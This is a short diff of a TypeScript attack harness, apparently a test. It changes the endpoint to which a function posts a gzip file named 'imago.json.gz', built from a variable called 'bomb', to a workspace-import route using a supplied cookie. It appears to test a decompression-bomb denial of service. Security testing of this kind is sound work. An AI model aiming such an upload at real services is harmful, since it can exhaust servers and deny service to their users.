@@ -53,7 +53,7 @@ answerParent(async ({ origin, cookie, key, seconds }: Attack): Promise<StatusCou
 	const importWorkspace = () => {
 		const form = new FormData();
 		form.set('file', new File([bomb], 'imago.json.gz'));
-		const to = `${origin}/settings/bring-in?/bring`;
+		const to = `${origin}/settings/import-workspace?/importFile`;
 		return fetch(to, { method: 'POST', body: form, headers: own, redirect: 'manual' });
 	};
 	/** Reads the head of an export response and leaves its body unread. */
